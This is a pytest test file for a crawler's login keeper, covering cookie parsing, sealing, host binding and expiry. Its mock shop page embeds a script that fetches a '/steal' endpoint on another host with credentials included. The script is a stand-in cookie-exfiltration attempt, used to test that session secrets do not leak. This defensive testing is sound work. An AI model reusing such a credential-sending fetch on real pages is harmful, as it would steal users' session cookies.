"""Logins: read from a browser's files, sealed, opened for one host, and seen nowhere else."""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from hypothesis import given
from hypothesis import strategies as st

from patrol.errors import Misused, PatrolError
from patrol.logins import LoginKeeper, read_cookies
from records.model import Watch
from records.terms import RenderMode, RunOutcome, TargetKind

NOW = datetime(2026, 5, 1, tzinfo=UTC)
SECRET = "s3cr3t-0f-the-user"
JAR = "# Netscape HTTP Cookie File\n.shop.example\tTRUE\t/\tTRUE\t0\tsid\tv4lue\nother.example\tFALSE\t/\tFALSE\t0\tx\ttwo\n"


@pytest.mark.parametrize(
    ("text", "host", "cookies", "others"),
    [
        ("sid=one; lang=zh", "shop.example", {"sid": "one", "lang": "zh"}, 0),
        ("Cookie: sid=a=b;", "shop.example", {"sid": "a=b"}, 0),
        (JAR, "www.shop.example", {"sid": "v4lue"}, 1),
        (json.dumps([{"name": "a", "value": "1", "domain": ".shop.example"}, {"name": "b", "value": "2", "domain": "evil.example"}]), "shop.example", {"a": "1"}, 1),
        (json.dumps({"cookies": [{"name": "a", "value": "1", "domain": "127.0.0.1"}]}), "127.0.0.1:8000", {"a": "1"}, 0),
    ],
)  # fmt: skip
def test_cookies_of_a_host_are_taken_and_others_left(text, host, cookies, others):
    assert read_cookies(text, host) == (cookies, others)


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("", "shop.example"), ("nothing here", "shop.example"), ("[", "shop.example"), ("[1]", "shop.example"), ("{}", "shop.example"),
        (JAR, "else.example"), (JAR, "notshop.example"), ("a\tb\tc", "shop.example"),
        (json.dumps([{"name": "a", "value": "1", "domain": ".example"}]), "shop.example"),
        (json.dumps([{"name": "a", "value": "1", "domain": "0.0.1"}]), "127.0.0.1"),
        (";".join(f"c{n}=1" for n in range(201)), "shop.example"), ("a=" + "x" * 300_000, "shop.example"), ("[" * 100_000, "shop.example"),
    ],
)  # fmt: skip
def test_what_holds_no_cookie_of_the_host_is_misuse_and_no_value_is_shown(text, host):
    with pytest.raises(Misused) as caught:
        read_cookies(text, host)
    assert "v4lue" not in str(caught.value)


@given(
    st.dictionaries(st.text(min_size=1, max_size=20), st.text(max_size=50), max_size=5),
    st.text(min_size=1).filter(str.strip),
)
def test_what_is_sealed_is_opened_as_it_was(tmp_path_factory, cookies, authority):
    keeper = LoginKeeper(tmp_path_factory.mktemp("keys") / "logins.key")
    login = keeper.seal("shop.example", cookies, authority, "ann", NOW, None)
    assert keeper.open(login, NOW) == cookies
    assert all(value.encode() not in login.sealed for value in cookies.values() if len(value) > 8)


def test_a_login_is_bound_to_host_authority_key_and_time(tmp_path):
    keeper = LoginKeeper(tmp_path / "logins.key")
    login = keeper.seal("shop.example", {"sid": SECRET}, "委托书 3 号", "ann", NOW, NOW + timedelta(days=1))
    assert (tmp_path / "logins.key").stat().st_mode & 0o777 == 0o600
    assert SECRET not in repr(login)
    for other in (replace(login, host="evil.example"), replace(login, authority="别的"), replace(login, id="x"), replace(login, sealed=login.sealed[:-1] + b"x"), replace(login, sealed=b"")):  # fmt: skip
        with pytest.raises(PatrolError, match="was changed"):
            keeper.open(other, NOW)
    with pytest.raises(PatrolError, match="expired on 2026-05-02"):
        keeper.open(login, NOW + timedelta(days=1))
    with pytest.raises(PatrolError, match="another key"):
        LoginKeeper(tmp_path / "else.key").open(login, NOW)
    (tmp_path / "logins.key").write_bytes(b"short") if (tmp_path / "logins.key").chmod(0o600) is None else None
    with pytest.raises(PatrolError, match="expected 32 bytes"):
        keeper.open(login, NOW)


@pytest.mark.parametrize(
    ("host", "authority"), [("shop.example", " "), ("", "x"), ("https://shop.example/", "x"), ("u@shop.example", "x")]
)
def test_no_login_without_authority_or_host(tmp_path, host, authority):
    with pytest.raises(Misused):
        LoginKeeper(tmp_path / "k").seal(host, {"a": "1"}, authority, "ann", NOW, None)


class Members:
    """A shop that shows its goods to members only; `asked` holds the cookies that came with each request."""

    def __init__(self, elsewhere=""):
        self.asked = []
        shop = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                shop.asked.append((self.path, self.headers.get("Cookie", "")))
                inside = SECRET in self.headers.get("Cookie", "")
                cards = "".join(
                    f'<li class=g><a href="/p/{n}"><b>岚沟苦荞 {n}</b></a><i>¥{n}8.00</i></li>' for n in range(1, 5)
                )
                body = (
                    f"<ul>{cards}</ul><script>fetch('{elsewhere}/steal', {{credentials: 'include', mode: 'no-cors'}})</script>"
                    if inside
                    else "<h1>请先登录</h1><input type=password>"
                )
                if inside and self.path.startswith("/p/"):
                    body = f"<h1>岚沟苦荞 {self.path[3:]}</h1><b class=price>¥{self.path[3:]}8.00</b><p>说明</p>"
                data = f"<!doctype html><meta charset=utf-8><body>{body}</body>".encode()
                self.send_response(200 if self.path == "/" or self.path.startswith("/p/") else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *_args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_port}"
        Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def members():
    other = Members()
    one = Members(f"http://localhost:{other.server.server_port}")
    yield one, other
    for each in (one, other):
        each.server.shutdown()
        each.server.server_close()


@pytest.mark.parametrize("render", [RenderMode.NEVER, RenderMode.ALWAYS])
def test_a_watch_reads_as_its_user_and_the_cookie_is_nowhere_else(make_house, members, render, tmp_path):
    shop, other = members
    house = make_house(
        {
            "MARKWATCH_ALLOW_HOSTS": f"{shop.host},localhost:{other.server.server_port}",
            "MARKWATCH_CRAWL_DELAY_S": "0",
            "MARKWATCH_LOG_LEVEL": "debug",
        }
    )
    watch = Watch("w1", "w1", TargetKind.CATEGORY, (f"http://{shop.host}/",), render=render, created_at=house.now())
    assert house.crawl(watch).outcome is RunOutcome.BLOCKED
    login = house.logins.seal(shop.host, {"sid": SECRET}, "用户本人", "ann", house.now(), None)
    house.records.logins.save(login)
    run = house.crawl(replace(watch, session_id=login.id))
    assert (run.outcome, run.items) == (RunOutcome.OK, 4), run.reason
    assert any(SECRET in cookie for _, cookie in shop.asked)
    assert all(SECRET not in cookie for _, cookie in other.asked)
    assert render is RenderMode.NEVER or other.asked  # the page did ask elsewhere
    home = house.home
    house.close()
    for path in home.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


def test_an_expired_or_removed_login_is_the_runs_outcome(house, members):
    shop, _ = members
    watch = Watch("w1", "w1", TargetKind.CATEGORY, (f"http://{shop.host}/",), session_id="gone", created_at=house.now())
    run = house.crawl(watch)
    assert run.outcome is RunOutcome.FAILED
    assert "was removed" in run.reason
    assert shop.asked == []
